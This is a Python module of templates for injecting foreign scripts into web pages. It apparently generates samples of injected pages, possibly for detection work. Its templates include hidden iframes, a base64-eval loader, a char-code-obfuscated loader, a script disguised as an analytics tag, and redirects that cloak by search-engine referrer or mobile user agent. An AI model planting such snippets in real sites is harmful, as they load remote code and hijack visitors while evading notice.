"""Ways foreign code gets into a page (the ``script`` family): ``{url}`` a script or frame URL on a
never-seen host, ``{target}`` a redirect target. The part is put in ``head`` or at ``body`` end."""

from __future__ import annotations

import base64

STYLES: dict[str, tuple[str, str]] = {
    "head-src": ("head", '<script type="text/javascript" src="{url}"></script>'),
    "async-loader": (
        "body",
        '<script>\n(function(){{var s=document.createElement("script");s.async=true;'
        's.src="{url}";var x=document.getElementsByTagName("script")[0];'
        "x.parentNode.insertBefore(s,x);}})();\n</script>",
    ),
    "doc-write": (
        "body",
        '<script language="javascript">document.write(\'<script src="{url}"><\\/script>\');</script>',
    ),
    "hidden-iframe": (
        "body",
        '<iframe src="{url}" width="0" height="0" frameborder="0" scrolling="no" '
        'style="display:none"></iframe>',
    ),
    "meta-refresh": ("head", '<meta http-equiv="refresh" content="2;url={target}">'),
    "referrer-jump": (
        "head",
        "<script>if(/baidu|sogou|so\\.com|sm\\.cn|bing/i.test(document.referrer))"
        '{{window.location.replace("{target}");}}</script>',
    ),
    "mobile-jump": (
        "head",
        "<script>if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent))"
        '{{top.location.href="{target}";}}</script>',
    ),
    "b64-eval": ("body", '<script>eval(atob("{b64}"));</script>'),
    "char-codes": (
        "body",
        "<script>var _0x=[{codes}];var s=document.createElement('script');"
        "s.src=String.fromCharCode.apply(null,_0x);document.body.appendChild(s);</script>",
    ),
    "timer-jump": (
        "body",
        '<script>setTimeout(function(){{window.location.href="{target}"}},{ms});</script>',
    ),
    "defer-tail": ("body", '<script defer="defer" src="{url}" charset="utf-8"></script>'),
    "vendor-mimic": (
        "body",
        '<span style="display:none"><script type="text/javascript">var _czc=_czc||[];'
        '(function(){{var um=document.createElement("script");um.src="{url}";'
        'var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(um,s);}})();'
        "</script></span>",
    ),
}


def fill(style: str, url: str, target: str, ms: int) -> tuple[str, str]:
    place, part = STYLES[style]
    loader = f'var s=document.createElement("script");s.src="{url}";document.head.appendChild(s);'
    codes = ",".join(str(ord(c)) for c in url)
    return place, part.format(
        url=url, target=target, ms=ms, b64=base64.b64encode(loader.encode()).decode(), codes=codes
    )
